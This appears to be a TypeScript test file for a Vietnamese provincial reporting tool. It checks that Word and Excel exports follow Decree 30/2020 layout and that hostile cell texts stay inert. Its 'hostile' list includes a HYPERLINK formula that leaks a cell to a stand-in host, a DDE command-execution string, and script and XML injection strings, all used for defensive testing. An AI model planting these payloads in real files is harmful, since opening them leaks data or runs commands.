// Looks into a report's files: the decree's layout, every section, typed cells, nothing a program would run.

import { describe, expect, it } from "vitest";
import { readZip } from "../../testing/read-zip.ts";
import { sampleReport } from "../../testing/sample-report.ts";
import { wellFormed } from "../../testing/well-formed.ts";
import { pageDocx } from "../page-docx.ts";
import { sheetsXlsx } from "../sheet-xlsx.ts";
import { entryRanges, subjectOf } from "./printed-report.ts";
import { reportPages } from "./report-page.ts";
import { reportSheets } from "./report-sheets.ts";

const hostile = [
  '=HYPERLINK("http://evil.invalid?"&A1,"xem")',
  "=cmd|' /C calc'!A0",
  "+84 912",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\u0000=1+1",
  "<script>alert(1)</script>",
  "]]><x/>&amp;&#0;",
  "nửa \ud800 cặp",
  "\ufffe",
  "[Tên]:*?/\\ rất dài vượt quá ba mươi mốt ký tự",
];

async function documentXml(
  printed = sampleReport(),
  language: "vi" | "en" = "vi",
): Promise<Map<string, string>> {
  const files = readZip(await pageDocx(...reportPages(printed, language)));
  for (const [path, text] of files) if (/\.(xml|rels)$/.test(path)) wellFormed(text);
  return files;
}

const runsOf = (xml: string): string[] =>
  [...xml.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map(([, run = ""]) => run);

describe("a report as a document", () => {
  it("has the head, body, foot and annexes of Decree 30/2020", async () => {
    const xml = (await documentXml()).get("word/document.xml") ?? "";
    const runs = runsOf(xml);
    expect(runs.slice(0, 10)).toEqual([
      "ỦY BAN NHÂN DÂN TỈNH NGHỆ AN",
      "VĂN PHÒNG UBND TỈNH",
      "Số:         /BC-",
      "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
      "Độc lập - Tự do - Hạnh phúc",
      "Nghệ An, ngày      tháng 7 năm 2017",
      "BÁO CÁO",
      "Kết quả thực hiện Kế hoạch 42/KH-UBND ngày 20/01/2017, tháng 7/2017",
      "Kỳ số liệu: từ ngày 15/06/2017 đến hết ngày 14/07/2017",
      "Ghi nhận đến 09:30 ngày 17/07/2017",
    ]);
    for (const wanted of [
      "I. TÌNH HÌNH THỰC HIỆN NHIỆM VỤ",
      "- Đã hoàn thành 35 lượt: đúng hạn 31, quá hạn 4.",
      "Nhiệm vụ thường xuyên đang thực hiện:",
      "II. KẾT QUẢ THỰC HIỆN CHỈ TIÊU",
      "III. CHẤP HÀNH CHẾ ĐỘ BÁO CÁO",
      "IV. PHẢN ÁNH CỦA CÁC CƠ QUAN",
      "V. ĐỐI CHIẾU SỐ LIỆU",
      "Nơi nhận:",
      "Phụ lục I",
      "Phụ lục VI",
      "3f".repeat(32),
    ])
      expect(runs).toContain(wanted);
    expect(runs.some((run) => run.endsWith("./."))).toBe(true);
    // The text stands upright, each annex lies across in a section of its own, counted from 1.
    const sections = [...xml.matchAll(/<w:sectPr.*?<\/w:sectPr>/g)].map(([section]) => section);
    expect(sections).toHaveLength(7);
    expect(sections.map((section) => section.includes('w:orient="landscape"'))).toEqual([
      false,
      ...Array.from({ length: 6 }, () => true),
    ]);
    for (const section of sections) {
      expect(section).toMatch(
        /<w:pgMar[^>]*w:top="1134"[^>]*w:right="1134"[^>]*w:bottom="1134"[^>]*w:left="1701"/,
      );
      expect(section).toContain('w:start="1"');
      expect(section).toContain("<w:titlePg");
    }
    expect(xml).toContain("<w:keepNext");
  });

  it("says what it is: a draft, a frozen one, one superseded, a part", async () => {
    const frozen = { ...sampleReport().frozen, number: 1, latest: 2, issuedAt: Date.UTC(2017, 6, 18) * 1000 };
    const printed = {
      ...sampleReport(),
      frozen: frozen as NonNullable<ReturnType<typeof sampleReport>["frozen"]>,
    };
    const said = runsOf((await documentXml({ ...printed, whole: false })).get("word/document.xml") ?? "");
    expect(said).toContain("Bản chốt lần 1, ngày 18/07/2017");
    expect(said).toContain("Đã được thay bằng bản chốt lần 2");
    expect(said.some((run) => run.startsWith("Chỉ gồm phần của cơ quan người xem"))).toBe(true);
    const english = runsOf((await documentXml(sampleReport(), "en")).get("word/document.xml") ?? "");
    expect(english).toContain("DRAFT – figures change until it is issued");
    expect(english).toContain("II. TARGETS");
  });

  it("tells scopes apart", () => {
    const { report } = sampleReport();
    const agency = { id: "cong-an", name: "Công an tỉnh" };
    expect(subjectOf({ ...report, scope: { plan: null, agency: null } }, "vi")).toBe(
      "Kết quả thực hiện các nhiệm vụ được giao trên địa bàn tỉnh, tháng 7/2017",
    );
    expect(subjectOf({ ...report, scope: { plan: null, agency } }, "vi")).toContain("của Công an tỉnh");
    expect(subjectOf({ ...report, scope: { ...report.scope, agency } }, "en")).toContain("Công an tỉnh");
  });

  it("keeps hostile texts texts", async () => {
    for (const text of hostile) {
      const xml = (await documentXml(sampleReport(() => text))).get("word/document.xml") ?? "";
      expect(xml).not.toContain("<script");
      expect(xml).not.toContain("w:instrText");
    }
  });
});

describe("a report as a spreadsheet", () => {
  const bytes = async (printed = sampleReport()): Promise<Map<string, string>> => {
    const { annexes, traces } = reportSheets(printed, "vi");
    const files = readZip(await sheetsXlsx([...annexes, ...traces]));
    for (const [path, text] of files) if (/\.(xml|rels)$/.test(path)) wellFormed(text);
    return files;
  };

  it("has figures, targets, gaps and traces with typed cells", async () => {
    const files = await bytes();
    const tabs = [...(files.get("xl/workbook.xml") ?? "").matchAll(/<sheet [^>]*name="([^"]*)"/g)].map(
      ([, name]) => name,
    );
    expect(tabs).toEqual([
      "Số liệu",
      "Chỉ tiêu",
      "Chế độ báo cáo",
      "Quá hạn",
      "Đối chiếu",
      "Sổ ghi nhận",
      "Truy vết nhiệm vụ",
      "Truy vết số liệu",
    ]);
    const valuesOf = (sheet: number): string[] =>
      [
        ...(files.get(`xl/worksheets/sheet${sheet}.xml`) ?? "").matchAll(
          /<c r="[A-Z]+\d+"(?![^>]*t="s")[^>]*><v>([^<]*)</g,
        ),
      ].map(([, value = ""]) => value);
    // 19, 20 and 95 % as numbers; what is not reported is no zero.
    expect(valuesOf(2)).toEqual(["1", "19", "20", "0.95", "2"]);
    expect(valuesOf(8)).toEqual(["1", "3", "140", "2", "-2.5", "141", "3", "142"]);
    // 30/6/2017 is day 42,916 of a spreadsheet's calendar.
    expect(valuesOf(7)).toContain("42916");
    expect(files.get("xl/sharedStrings.xml")).toContain("2–4, 9");
  });

  it("keeps every text a text, whatever it begins with, and every tab a name", async () => {
    for (const text of hostile) {
      const files = await bytes(sampleReport(() => text));
      for (const [path, xml] of files) {
        if (!path.startsWith("xl/worksheets/")) continue;
        expect(xml).not.toMatch(/<f[ >/]/);
        expect(xml).not.toContain("hyperlink");
      }
    }
    const { annexes } = reportSheets(sampleReport(), "vi");
    const [first] = annexes;
    if (first === undefined) throw new Error("There is no sheet.");
    const files = readZip(await sheetsXlsx([{ ...first, name: hostile.at(-1) ?? "" }]));
    expect(files.get("xl/workbook.xml")).toMatch(/name="[^"[\]:*?/\\]{1,31}"/);
  });
});

it("shortens runs of entries", () => {
  expect(entryRanges([])).toBe("");
  expect(entryRanges([44, 3, 18, 19, 20, 20])).toBe("3, 18–20, 44");
});
